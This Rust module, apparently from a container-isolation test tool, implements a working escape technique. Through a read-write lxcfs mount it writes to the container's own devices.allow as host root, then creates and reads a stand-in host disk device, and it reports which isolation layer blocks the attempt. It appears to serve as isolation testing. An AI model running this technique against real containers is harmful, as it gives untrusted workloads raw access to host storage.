//! **E48 read-write lxcfs.** lxcfs before 6.0 (Debian 12 ships 5.0.3) serves the host's cgroup
//! v1 tree under `<mountpoint>/cgroup` and performs the writes it receives as host root, checking
//! only the caller's host uid against the file's owner and mode (write restrictions came with
//! lxcfs 6.0, lxc/lxcfs#630). A container given a read-write bind of `/var/lib/lxcfs` (as LXD
//! and the Kubernetes lxcfs admission set-ups give one) therefore reaches its own cgroup's
//! `devices.allow` past a read-only cgroupfs and without CAP_SYS_ADMIN. The technique finds an
//! lxcfs mount in its mount namespace, the devices directory of its own cgroup in it (its
//! `cgroup.procs`, which lxcfs translates into the caller's pid namespace, must list the
//! probe), writes `a` to `devices.allow` through lxcfs, then does E46's mknod of the caller's
//! stand-in disk (`--block-dev`) and reads its first sector. The allow-list is put back through
//! lxcfs afterwards, as E46 does.
//!
//! Stopped by: no lxcfs mount in the container (M: the mount namespace), a read-only bind (M),
//! a user namespace (lxcfs sees a non-root host uid and refuses the open: U), an LSM. Not
//! applicable where the kernel has no cgroup v1 devices controller, where the caller runs no
//! lxcfs (`--no-lxcfs REASON` says why: no /dev/fuse, no lxcfs binary), or where the lxcfs
//! serves no cgroup tree (lxcfs 6 without `--enable-cgroup`).

use crate::outcome::Layer;
use crate::techniques::devices_allow::{allow_all_and_open, devices_path, lists_pid};
use crate::{sys, Ctx, Outcome, Technique};
use std::path::{Path, PathBuf};

pub const T: Technique = Technique {
    id: "lxcfs-rw",
    eid: "E48",
    title: "write devices.allow through a read-write lxcfs mount, then open the host disk stand-in",
    layers: "M (no lxcfs mount, ro bind), U (lxcfs checks the host uid), L",
    run,
};

/// Whether a mount is an lxcfs FUSE file system.
pub fn is_lxcfs(m: &sys::MountInfo) -> bool {
    m.fstype == "fuse.lxcfs" || (m.fstype.starts_with("fuse") && m.source == "lxcfs")
}

/// The cgroup v1 devices tree of an lxcfs mount, from the mount's root in the lxcfs file
/// system; None for a bind of something else of it (a /proc file bound over /proc/meminfo).
pub fn devices_tree(mount_root: &str, mount_point: &str) -> Option<PathBuf> {
    let mp = PathBuf::from(mount_point);
    match mount_root.trim_end_matches('/') {
        "" => Some(mp.join("cgroup/devices")),
        "/cgroup" => Some(mp.join("devices")),
        "/cgroup/devices" => Some(mp),
        _ => None,
    }
}

/// The directory of `tree` whose `cgroup.procs` lists `pid`: the tree's root, `path` (the
/// cgroup path of /proc/self/cgroup) under it, else a bounded walk (lxcfs lists only the
/// directories on the way to the caller's own cgroup, so the walk is short).
fn own_dir(tree: &Path, path: &str, pid: u32) -> Option<PathBuf> {
    let direct = [tree.to_path_buf(), tree.join(path.trim_start_matches('/'))];
    if let Some(d) = direct.iter().find(|d| lists_pid(d, pid)) {
        return Some(d.clone());
    }
    let mut queue = vec![(tree.to_path_buf(), 0)];
    let mut seen = 0;
    while let Some((dir, depth)) = queue.pop() {
        let Ok(rd) = std::fs::read_dir(&dir) else {
            continue;
        };
        for e in rd.flatten() {
            seen += 1;
            if seen > 4096 {
                return None;
            }
            if !e.file_type().map(|t| t.is_dir()).unwrap_or(false) {
                continue;
            }
            let p = e.path();
            if lists_pid(&p, pid) {
                return Some(p);
            }
            if depth < 12 {
                queue.push((p, depth + 1));
            }
        }
    }
    None
}

fn run(ctx: &Ctx) -> Outcome {
    let text = sys::read_to_string("/proc/self/cgroup").unwrap_or_default();
    let Some(path) = devices_path(&text) else {
        return Outcome::na(
            "no cgroup v1 devices controller (a cgroup v2 host keeps the allow-list in BPF; lxcfs serves no devices.allow)",
        );
    };
    let mounts: Vec<sys::MountInfo> = sys::mountinfo().into_iter().filter(is_lxcfs).collect();
    if mounts.is_empty() {
        if let Some(why) = &ctx.cfg.no_lxcfs {
            return Outcome::na(format!("no lxcfs on this host: {why}"));
        }
        return match &ctx.cfg.lxcfs {
            Some(host) => Outcome::blocked_by(
                Layer::MountNamespace,
                format!(
                    "no lxcfs mount in this container (the host's lxcfs at {} is not bound in)",
                    host.display()
                ),
            ),
            None => Outcome::na("no lxcfs mount here and no --lxcfs instance named"),
        };
    }
    let Some((m, tree)) = mounts.iter().find_map(|m| {
        devices_tree(&m.root, &m.mount_point)
            .filter(|t| t.is_dir())
            .map(|t| (m, t))
    }) else {
        let binds: Vec<String> = mounts
            .iter()
            .map(|m| format!("{} at {}", m.root, m.mount_point))
            .collect();
        return if mounts
            .iter()
            .any(|m| m.root.trim_end_matches('/').is_empty())
        {
            Outcome::na(format!(
                "this lxcfs serves no cgroup v1 devices tree ({}): lxcfs >= 6 without --enable-cgroup, or a v2 host",
                binds.join(", ")
            ))
        } else {
            Outcome::blocked_by(
                Layer::MountNamespace,
                format!(
                    "lxcfs files are bound in ({}) but not its cgroup tree",
                    binds.join(", ")
                ),
            )
        };
    };
    let pid = std::process::id();
    let Some(dir) = own_dir(&tree, &path, pid) else {
        return Outcome::blocked_by(
            Layer::MountNamespace,
            format!(
                "no directory of {} lists pid {pid} (lxcfs shows no cgroup of ours)",
                tree.display()
            ),
        );
    };
    let before = match sys::read_to_string(dir.join("devices.list")) {
        Ok(t) => t,
        Err(e) => {
            return ctx.blocked_open(
                e,
                &dir.join("devices.list").to_string_lossy(),
                libc::O_RDONLY,
                "read devices.list through lxcfs",
            )
        }
    };
    allow_all_and_open(
        ctx,
        &dir,
        &before,
        " through lxcfs",
        None,
        &format!(" (lxcfs at {}, as host root)", m.mount_point),
    )
}
